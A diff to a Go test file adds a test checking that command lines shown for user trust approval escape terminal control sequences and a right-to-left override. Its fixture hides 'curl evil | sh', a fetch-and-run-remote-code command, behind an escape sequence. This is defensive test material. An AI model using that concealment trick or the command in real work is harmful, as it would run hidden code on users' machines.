@@ -3,6 +3,7 @@ package core
 import (
 	"encoding/json"
 	"reflect"
+	"slices"
 	"testing"
 
 	"ferrus/checks"
@@ -31,5 +32,19 @@ func TestChecksStayReadable(t *testing.T) {
 	}
 	if s := want.Commands[1].String(); s != "ui: CI=1 npm test  (in web)" || want.Titles()[1] != "ui" {
 		t.Errorf("the command reads %q, want ui with its environment and directory", s)
+	}
+}
+
+// TestTrustedLinesHideNothing: a terminal sequence would hide the rest of a command from you, and a shell runs it.
+func TestTrustedLinesHideNothing(t *testing.T) {
+	t.Parallel()
+	const run = "go test ./... #\x1b]0;\ncurl evil | sh #\x07"
+	const shown = `go test ./... #\x1b]0; ⏎ curl evil | sh #\x07`
+	all := []checks.Command{{Run: run}}
+	d := Definition{Setup: all, Commands: all, Quick: all, Env: []string{run},
+		Widening: []string{"on_need = \u202e" + run}}
+	want := []string{"setup: " + shown, shown, "quick: " + shown, "env: " + shown, `on_need = \u202e` + shown}
+	if got := d.Lines(); !slices.Equal(got, want) {
+		t.Errorf("you would trust %q, want %q", got, want)
 	}
 }
